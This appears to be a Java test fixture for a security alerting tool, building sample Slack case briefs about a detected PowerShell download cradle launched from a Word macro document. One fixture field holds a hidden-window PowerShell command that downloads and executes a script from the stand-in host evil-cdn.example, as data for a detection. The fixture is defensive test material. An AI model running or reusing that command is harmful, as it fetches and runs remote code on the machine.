package dev.takagari.alerting.slack;

import dev.takagari.alerting.facts.FactKeys;
import dev.takagari.alerting.note.CaseBrief;
import dev.takagari.alerting.note.CaseBriefs;
import dev.takagari.alerting.note.CaseLinks;
import dev.takagari.alerting.route.Person;
import dev.takagari.alerting.route.Route;
import dev.takagari.core.cases.Actor;
import dev.takagari.core.cases.Assessment;
import dev.takagari.core.cases.Case;
import dev.takagari.core.cases.CaseCounts;
import dev.takagari.core.cases.CaseKey;
import dev.takagari.core.cases.CaseState;
import dev.takagari.core.cases.CaseTimes;
import dev.takagari.core.cases.CloseReason;
import dev.takagari.core.cases.Disposition;
import dev.takagari.core.cases.Fact;
import dev.takagari.core.cases.FactGroup;
import dev.takagari.core.cases.FactGroup.Kind;
import dev.takagari.core.cases.FactGroup.State;
import dev.takagari.core.cases.StoredDetection;
import dev.takagari.core.cases.Tell;
import dev.takagari.core.cases.TimelineEntry;
import dev.takagari.core.cases.TimelineEntry.What;
import dev.takagari.core.detection.Detection;
import dev.takagari.core.detection.DetectionDraft;
import dev.takagari.core.detection.Detections;
import dev.takagari.core.detection.Severity;
import dev.takagari.core.event.Columns;
import java.net.URI;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SequencedMap;
import org.jspecify.annotations.Nullable;

/// Cases to be told, each made of the same one by a few changes. For one thread.
final class SlackScenes {
  static final Instant TIME = Instant.parse("2026-11-20T05:03:22Z");
  static final CaseKey KEY = new CaseKey(2026, 482);
  static final Person TANAKA =
      new Person("a.tanaka", "U0TANAKA1", "atanaka", "a.tanaka@example.com", "soc");
  static final Route ROUTE = new Route("C0SECURITY", "soc", "payments", "high", List.of());
  static final Route CALLING = new Route("C0SECURITY", "soc", "payments", "high", List.of(TANAKA));

  Severity severity = Severity.HIGH;
  Tell tell = Tell.CHANNEL;
  CaseState state = CaseState.OPEN;
  @Nullable CloseReason reason;
  String note = "";
  String assignee = "";
  long version = 3;
  @Nullable CaseKey mergedInto;
  @Nullable Instant snoozedUntil;
  CaseCounts counts = new CaseCounts(3, 3, 1);
  String title = "PowerShell download cradle";
  String rule = "proc_creation_win_office_spawn_ps";
  final List<Detection> detections = new ArrayList<>();
  final List<FactGroup> facts = new ArrayList<>();
  final List<TimelineEntry> timeline = new ArrayList<>();

  SlackScenes() {
    detections.add(
        DetectionDraft.like(Detections.of("d-1", "1", "falcon:1", "a1", TIME))
            .title(title)
            .ruleId(rule)
            .fields(
                Detections.fields(
                    Columns.HOST_ID, "6bd6c1e0b7d54a3f9d8e7f6a5b4c3d2e",
                    Columns.HOST_NAME, "WS-0142",
                    Columns.USER_NAME, "CORP\\a.tanaka",
                    Columns.PROCESS_NAME, "powershell.exe",
                    Columns.PROCESS_COMMAND_LINE,
                        "powershell -nop -w hidden -c \"IEX (New-Object"
                            + " Net.WebClient).DownloadString('http://evil-cdn.example/a')\"",
                    Columns.DNS_QUESTION_NAME, "evil-cdn.example",
                    Columns.THREAT_TECHNIQUE_ID, "T1059.001"))
            .detection());
    timeline.add(
        new TimelineEntry(1, TIME.plusSeconds(8), Actor.SYSTEM, What.OPENED, "by its first"));
  }

  /// With what finders found of it.
  SlackScenes known() {
    facts.add(
        new FactGroup(
            Kind.WHO,
            State.COMPLETE,
            "",
            TIME.plusSeconds(10),
            List.of(new Fact("person", "Akiko Tanaka, IT", "list of owners", null))));
    facts.add(
        new FactGroup(
            Kind.BEFORE,
            State.COMPLETE,
            "",
            TIME.plusSeconds(10),
            List.of(
                new Fact(
                    "parent process",
                    "winword.exe \"Q3 plan.docm\"",
                    "sensor",
                    TIME.minusSeconds(31)))));
    facts.add(
        new FactGroup(
            Kind.KNOWN,
            State.PENDING,
            "virustotal is being asked",
            TIME.plusSeconds(10),
            List.of(
                intel("domain", "evil-cdn.example: malware download", "URLhaus", 2, "malicious"),
                intel("address", "203.0.113.9: 0 of 94", "VirusTotal", 26, "unknown"))));
    facts.add(
        new FactGroup(
            Kind.EARLIER,
            State.COMPLETE,
            "",
            TIME.plusSeconds(10),
            List.of(
                verdict("A-2026-000311", "false-positive"),
                verdict("A-2026-000290", "false-positive"))));
    timeline.add(
        new TimelineEntry(2, TIME.plusSeconds(10), Actor.SYSTEM, What.ASSESSED, "high, channel"));
    return this;
  }

  static Fact intel(String label, String text, String source, int hours, String verdict) {
    return new Fact(
        label,
        text,
        source,
        TIME.minus(Duration.ofHours(hours)),
        values(FactKeys.VERDICT, verdict));
  }

  private static Fact verdict(String key, String reason) {
    return new Fact(
        "earlier case",
        key + " closed as " + reason,
        "cases",
        null,
        values(FactKeys.VERDICT, reason));
  }

  private static SequencedMap<String, String> values(String name, String value) {
    return new LinkedHashMap<>(Map.of(name, value));
  }

  SlackScenes acknowledged() {
    state = CaseState.ACKNOWLEDGED;
    assignee = "a.tanaka";
    version = 5;
    Actor by = new Actor("a.tanaka", Actor.Origin.SLACK);
    timeline.add(new TimelineEntry(3, TIME.plusSeconds(60), by, What.ACKNOWLEDGED, ""));
    timeline.add(new TimelineEntry(4, TIME.plusSeconds(61), by, What.ASSIGNED, "a.tanaka"));
    return this;
  }

  SlackScenes closed() {
    acknowledged();
    state = CaseState.CLOSED;
    reason = CloseReason.EXPECTED;
    note = "Drill of the red team,\nsee #4711";
    version = 6;
    timeline.add(
        new TimelineEntry(
            5,
            TIME.plusSeconds(900),
            new Actor("a.tanaka", Actor.Origin.SLACK),
            What.CLOSED,
            "expected: Drill of the red team"));
    return this;
  }

  SlackScenes reopened() {
    closed();
    state = CaseState.OPEN;
    reason = null;
    note = "";
    version = 7;
    timeline.add(
        new TimelineEntry(
            6, TIME.plusSeconds(1_800), Actor.SYSTEM, What.REOPENED, "it was detected again"));
    return this;
  }

  Case found() {
    return new Case(
        KEY,
        "falcon:1",
        Detection.Sources.FALCON,
        rule,
        title,
        // what the detections say, which the policy raised
        Severity.LOW,
        new Assessment(
            severity,
            "suspicious",
            List.of("a known malicious name was asked for", "an office program started it"),
            tell,
            "default 3"),
        state,
        reason,
        note,
        assignee,
        version,
        new CaseTimes(
            TIME.plusSeconds(8),
            TIME,
            TIME.plusSeconds(120),
            state == CaseState.OPEN ? null : TIME.plusSeconds(60),
            state == CaseState.CLOSED ? TIME.plusSeconds(900) : null,
            snoozedUntil),
        counts,
        mergedInto);
  }

  CaseBrief brief() {
    List<StoredDetection> telling =
        detections.stream()
            .map(
                one ->
                    new StoredDetection(
                        one, one.time(), Disposition.FILED, "", KEY, null, 1, 0, TIME))
            .toList();
    return CaseBriefs.of(
        found(), telling, facts, timeline, new CaseLinks(URI.create("https://takagari.example")));
  }

  /// An entry of each kind.
  static List<TimelineEntry> entries(String text) {
    List<TimelineEntry> entries = new ArrayList<>();
    for (What what : What.values()) {
      Actor by = new Actor("p" + text.substring(0, Math.min(50, text.length())), Actor.Origin.API);
      entries.add(new TimelineEntry(7, TIME, by, what, text));
    }
    return entries;
  }
}
